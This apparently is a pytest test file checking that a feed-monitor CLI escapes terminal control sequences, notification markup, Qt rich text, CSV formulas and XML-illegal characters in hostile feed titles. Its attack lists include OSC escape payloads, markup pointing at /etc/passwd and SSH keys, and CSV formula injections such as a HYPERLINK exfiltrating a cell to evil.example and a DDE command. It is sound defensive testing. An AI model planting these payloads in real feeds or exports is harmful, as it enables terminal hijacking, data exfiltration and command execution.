"""Every output channel escapes what it shows: terminal, notification markup, Qt tool tips, CSV, XML.

Unit variants of each attack on monitor/escape.py, then the real CLI in subprocesses over a feed
whose titles, name, links and Location headers carry terminal escapes: nothing of theirs acts.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from monitor.escape import csv_cell, markup, rich_text_literal, terminal, terminal_json, xml_text
from monitor.export import fines_csv
from tests.support import hostile
from tests.support.cli import assert_no_traceback, run_monitor
from tests.support.feedserver import FeedServer, rss

# What may act on a terminal: ESC, C0 and C1 controls (8-bit CSI), DEL, bidi overrides and isolates.
ACTIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")

TERMINAL_ATTACKS = [
    "\x1b[2J\x1b[H",  # clear the screen
    "\x1b]8;;file:///etc/passwd\x1b\\click\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x1b]0;All feeds OK\x07",  # OSC 0: the window title
    "\x1b]52;c;ZXZpbA==\x07",  # OSC 52: write the clipboard
    "\x1bP+q544e\x1b\\",  # DCS: terminfo query, answers typed into the shell
    "\x9b31m",  # 8-bit CSI (C1)
    "\x9d0;title\x9c",  # 8-bit OSC and ST
    "\x1b[6n",  # cursor position report: the terminal types an answer
    "a\rOK       ",  # carriage return: overwrite the line
    "a\x08\x08\x08OK",  # backspaces
    "\x07\x07",  # bell
    "report\u202egpj.exe",  # right-to-left override
    "\u2066isolate\u2069",
    "\x7fDEL",
    "lone \ud800 surrogate",
]


@pytest.mark.parametrize("attack", TERMINAL_ATTACKS)
def test_terminal_text_neutralises_every_control(attack: str) -> None:
    shown = terminal(f"title {attack} end")
    assert not ACTIVE.search(shown), repr(shown)
    assert shown.startswith("title ") and shown.endswith(" end")
    shown.encode("utf-8")  # printable on any UTF-8 terminal, surrogates included


def test_terminal_text_keeps_ordinary_text_and_shows_controls_as_pictures() -> None:
    assert terminal("Ça coûte 20 000 € – 東京 עברית") == "Ça coûte 20 000 € – 東京 עברית"
    assert terminal("a\x1b[31mb") == "a␛[31mb"
    assert terminal("two\nlines\tand tab") == "two lines and tab"
    assert terminal("two\nlines", one_line=False) == "two\nlines"


@pytest.mark.parametrize("attack", TERMINAL_ATTACKS)
def test_json_on_a_terminal_is_inert_and_means_the_same(attack: str) -> None:
    data = {"title": attack.replace("\ud800", "")}
    text = terminal_json(json.dumps(data, ensure_ascii=False))
    assert not ACTIVE.search(text)
    assert json.loads(text) == data


MARKUP_ATTACKS = [
    ('<a href="file:///etc/passwd">open me</a>', "&lt;a href"),
    ("Feed <b>& Co</b>", "Feed &lt;b&gt;&amp; Co&lt;/b&gt;"),
    ("<img src='file:///home/user/.ssh/id_rsa'>", "&lt;img"),
    ("&amp; already an entity", "&amp;amp; already"),
    ("&#60;b&#62; numeric", "&amp;#60;b&amp;#62;"),
    ("<![CDATA[x]]>", "&lt;![CDATA[x]]&gt;"),
    ("<!-- comment -->", "&lt;!-- comment --&gt;"),
    ("control \x01\x1b chars", "control  chars"),
    ("lone \ud800", "lone "),
    ("<u>underline</u> <i>i</i>", "&lt;u&gt;underline&lt;/u&gt;"),
]


@pytest.mark.parametrize(("attack", "expected"), MARKUP_ATTACKS)
def test_notification_markup_makes_every_tag_text(attack: str, expected: str) -> None:
    body = markup(attack)
    assert expected in body
    assert "<" not in body and ">" not in body
    ET.fromstring(f"<body>{body}</body>")  # what a markup server parses: well-formed, one text node


@pytest.mark.parametrize(("attack", "_expected"), MARKUP_ATTACKS)
def test_qt_tooltips_show_rich_text_literally(attack: str, _expected: str) -> None:
    tip = rich_text_literal(attack + "\nsecond line")
    root = ET.fromstring(tip)
    assert root.tag == "p" and len(root) == 0  # no element inside: the text is text
    assert (root.text or "").endswith("second line")


CSV_ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",  # a leading space that some spreadsheets skip
    "\u00a0=1+1",
    "\uff1d1+1",  # full-width equals sign
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("attack", CSV_ATTACKS)
def test_csv_cells_that_could_start_a_formula_get_a_quote(attack: str) -> None:
    assert csv_cell(attack).startswith("'")


def test_csv_cells_that_cannot_start_a_formula_are_unchanged() -> None:
    for text in ("Clearview AI", "20 000 €", "a=b", "x-1", "", "'quoted"):
        assert csv_cell(text) == text


def test_the_guard_applies_to_joined_tag_cells() -> None:
    # The reported case: an OPML category "=1+1" joined at the start of the tags column.
    record = {"id": 1, "tags": ["=1+1", "biometrics"], "title": "ok", "sources": []}
    row = next(csv.DictReader(io.StringIO(fines_csv([record]))))
    assert row["tags"] == "'=1+1;biometrics"


@pytest.mark.parametrize("attack", ["\x00", "\x1b[31m", "\x0b\x0c", "\ud800", "\ufffe", "\uffff"])
def test_xml_text_drops_what_xml_cannot_carry(attack: str) -> None:
    element = ET.Element("t")
    element.text = xml_text(f"a{attack}b")
    ET.fromstring(ET.tostring(element))  # serialises and parses back


# -- the real CLI --------------------------------------------------------------------------------

HOSTILE_TITLES = [
    "CNIL: amende de 20 millions d'euros \x1b[2J\x1b[31mRED",  # raw ESC in the document
    "La CNIL sanctionne X &#x1b;]8;;file:///etc/passwd&#x1b;\\lien&#x1b;]8;;&#x1b;\\ d'une amende",
    "Amende de 5 millions d'euros &#x9b;31m C1 &#155;2J",
    "Report &#x202e;gpj.exe&#x202c; &#x2066;x&#x2069;",
]


def _hostile_feed() -> str:
    items = [
        {
            "title": title,
            "link": f"https://news.example/{n}",
            "guid": f"g{n}",
            "description": f"La CNIL a prononcé une amende de {n + 2} millions d'euros contre Exemple{n}.",
            "pubDate": f"Thu, 1{n} Oct 2024 09:00:00 +0200",
        }
        for n, title in enumerate(HOSTILE_TITLES)
    ]
    # rss() escapes & and <: put the character references back as references.
    return rss(items, title="Hostile").replace("&amp;#", "&#").replace("\x1b", "&#x1b;")


def test_no_remote_escape_reaches_the_terminal(tmp_path: Path, feed_server: FeedServer) -> None:
    body = _hostile_feed().replace("&#x1b;[2J", "\x1b[2J")  # raw, as a sloppy server sends it
    feed = feed_server.add("/hostile.xml", body.encode("utf-8"))
    page = feed_server.add(
        "/page.html",
        "<html><head><link rel='alternate' type='application/rss+xml' "
        "href='http://127.0.0.1:1/&#x1b;]0;pwned&#x7;feed.xml'></head><body>hi</body></html>",
        content_type="text/html",
    )
    moved = feed_server.add("/moved.xml", handler=hostile.redirect(b"http://\x1b[31mred.example/"))
    feeds = tmp_path / "feeds.yml"
    feeds.write_text(
        "feeds:\n"
        f"  - {{name: CNIL, url: '{feed}', kind: authority, authority: CNIL}}\n"
        f"  - {{name: Page, url: '{page}', kind: news}}\n"
        f"  - {{name: Moved, url: '{moved}', kind: news}}\n",
        encoding="utf-8",
    )
    db = tmp_path / "m.sqlite"
    outputs = []
    for command in (
        ["poll"],
        ["items"],
        ["items", "--json"],
        ["feeds"],
        ["feeds", "--json"],
        ["fines"],
        ["fines", "--json"],
        ["fines", "--by-target"],
        ["alerts"],
        ["alerts", "--json"],
        ["feeds", "export"],
    ):
        done = run_monitor(*command, "--db", db, "--feeds", feeds, env={"COLUMNS": "200"})
        assert_no_traceback(done)
        assert done.returncode == 0, (command, done.stderr)
        for stream in (done.stdout, done.stderr):
            assert not ACTIVE.search(stream.replace("\n", "")), (command, repr(stream[:2000]))
        outputs.append(done.stdout)
    poll, items, fines = outputs[0], outputs[1], outputs[5]
    assert len(fines.splitlines()) > 1, fines  # the fines were found: their rows were checked too
    assert "Moved: error: refused redirect" in poll
    assert "this page links to the feed" in poll
    assert "␛" in items  # shown for what it is, not silently dropped
    json_items = json.loads(outputs[2])
    assert any("\x1b" in item["title"] for item in json_items)  # data kept exactly; only the view escapes


def _run_on_a_terminal(args: list[str]) -> str:
    """The real CLI with a pseudo-terminal as stdout, as a user's shell gives it."""
    import os
    import pty
    import subprocess
    import sys

    from tests.support.cli import ROOT

    leader, follower = pty.openpty()
    env = {**os.environ, "COLUMNS": "200"}
    proc = subprocess.Popen(
        [sys.executable, "-m", "monitor", *args], stdout=follower, stderr=subprocess.PIPE, cwd=ROOT, env=env
    )
    os.close(follower)
    chunks = []
    while True:
        try:
            data = os.read(leader, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not data:
            break
        chunks.append(data)
    os.close(leader)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, err
    return b"".join(chunks).decode("utf-8", "replace")


def test_documents_are_exact_into_a_pipe_and_inert_on_a_terminal(
    tmp_path: Path, feed_server: FeedServer
) -> None:
    feed = feed_server.add("/hostile.xml", _hostile_feed().encode("utf-8"))
    feeds = tmp_path / "feeds.yml"
    feeds.write_text(f"feeds:\n  - {{name: CNIL, url: '{feed}', kind: authority, authority: CNIL}}\n")
    db = tmp_path / "m.sqlite"
    assert run_monitor("poll", "--db", db, "--feeds", feeds).returncode == 0
    args = ["export", "items", "--format", "csv", "--db", str(db), "--feeds", str(feeds)]
    piped = run_monitor(*args)
    assert piped.returncode == 0 and "\x1b" in piped.stdout  # a file or a pipe gets the data as stored
    shown = _run_on_a_terminal(args)
    assert "CNIL" in shown and not ACTIVE.search(shown.replace("\r", "").replace("\n", ""))
    table = _run_on_a_terminal(["items", "--db", str(db), "--feeds", str(feeds)])
    assert "␛" in table and not ACTIVE.search(table.replace("\r", "").replace("\n", ""))
